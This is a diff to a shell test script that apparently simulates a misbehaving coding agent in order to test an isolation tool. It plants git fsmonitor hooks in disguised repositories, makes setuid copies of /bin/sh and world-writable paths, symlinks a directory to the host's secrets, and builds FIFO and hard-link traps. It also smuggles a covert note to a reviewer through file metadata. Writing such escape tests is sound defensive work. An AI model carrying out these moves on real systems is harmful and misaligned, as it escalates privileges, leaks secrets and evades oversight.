@@ -85,6 +85,66 @@ implement)
         echo "gitdir: ../evil-git" > plain/.git
         report "planted in nested repositories"
         ;;
+    shapes)
+        # Repositories git finds under other names; git 2.47 runs each one's fsmonitor at
+        # the person's next `git status` there. A worktree's layout in docs/ whose commondir
+        # names a common directory of the agent's, the program in its config.worktree; a
+        # src/ laid out as a git directory whose objects is a link.
+        if ! retried; then
+            mkdir -p common/objects common/refs/heads docs src/refs/heads wt
+            printf '[core]\n\trepositoryformatversion = 1\n\tbare = false\n[extensions]\n\tworktreeConfig = true\n' > common/config
+            printf 'ref: refs/heads/main\n' > docs/HEAD
+            printf '../common\n' > docs/commondir
+            printf '[core]\n\tfsmonitor = "%s"\n\tworktree = %s\n' "$(mark docs-fsmonitor)" "$PWD/wt" > docs/config.worktree
+            printf 'ref: refs/heads/main\n' > src/HEAD
+            ln -s ../common/objects src/objects
+            printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "%s"\n\tbare = false\n\tworktree = %s\n' "$(mark src-fsmonitor)" "$PWD/wt" > src/config
+            if [ -n "$(directive decoys)" ]; then
+                # A walk that stops at a count never reaches the real one, made after.
+                i=0; while [ $i -lt "$(directive decoys)" ]; do mkdir -p "decoys/$i/.git"; i=$((i+1)); done
+            fi
+            mkdir -p zz-real && git init --quiet zz-real/repo
+            printf '[core]\n\tfsmonitor = "%s"\n' "$(mark real-fsmonitor)" >> zz-real/repo/.git/config
+        fi
+        echo "docs" > notes.md
+        report "made repositories under other names"
+        ;;
+    setid)
+        # Programs any local user could run as whoever runs stet, and a directory anyone
+        # can write; then the last move swaps a directory for a link to the host's.
+        cp /bin/sh tool && chmod 4755 tool
+        mkdir -p shared && chmod 3777 shared
+        cp /bin/sh shared/g && chmod 2755 shared/g
+        echo "anyone writes" > open.txt && chmod 666 open.txt
+        mkdir -p data && echo inside > data/file && chmod 4755 data/file
+        rm -rf data && ln -s "$(dirname "$secret")" data
+        report "made set-id files: $(find . -perm /6000 -not -path './.git/*' | sort | tr '\n' ' ')"
+        ;;
+    deep-fifo)
+        # A FIFO under a path longer than PATH_MAX, then it waits to be killed (the test
+        # kills the drive, which leaves the lane as it is).
+        d=$(printf 'd%.0s' $(seq 1 200))
+        ( i=0; while [ $i -lt 30 ]; do mkdir "$d" && cd "$d" || exit 1; i=$((i+1)); done; mkfifo deep-pipe )
+        mkfifo pipe
+        report "made deep FIFOs"
+        # What the test waits for before it kills the drive.
+        echo "waiting" > waiting.txt
+        sleep 600
+        ;;
+    notes)
+        # Notes for the reviewer in what a file is besides its bytes: a time, a mode, an
+        # extended attribute (perl's syscall: the image has no setfattr).
+        touch -d @1111111111 README
+        chmod 600 README
+        perl -e 'my ($f, $n, $v) = ("README", "user.note", "LAND"); syscall(188, $f, $n, $v, 4, 0) == 0 or exit 1' && report "set an attribute"
+        report "left notes"
+        ;;
+    hardlinks)
+        # One sparse file of 15 MiB and 4,000 hard links to it: no disk, 60 GB for git.
+        truncate -s 15M big.bin
+        i=0; while [ $i -lt 4000 ]; do ln big.bin "link-$i.bin"; i=$((i+1)); done
+        report "made hard links"
+        ;;
     secret)
         # A key-shaped string in a file (as a test fixture would hold one).
         mkdir -p fixtures && printf 'aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n' > fixtures/creds.txt
@@ -335,6 +395,19 @@ review)
             echo "REVISE the implementer's uncommitted note reached me: $(cat hidden/note.txt)"
             exit 0
         fi
+        ;;
+    read-notes)
+        # What the implementer left in README besides its bytes (its call is over, the
+        # lane was put back to its commit since).
+        seen=$(stat -c '%a %Y' README)
+        attr=$(perl -e 'my ($f, $n, $b) = ("README", "user.note", "\0" x 64); my $got = syscall(191, $f, $n, $b, 64); print $got > 0 ? substr($b, 0, $got) : ""')
+        case "$seen $attr" in
+        *1111111111*|600*|*LAND*)
+            echo "REVISE the implementer's note reached me: $seen $attr"
+            exit 0
+            ;;
+        esac
+        said="notes: $seen $attr"
         ;;
     use-stolen)
         # The login the implement call encoded into the lane (its sandbox is gone now),
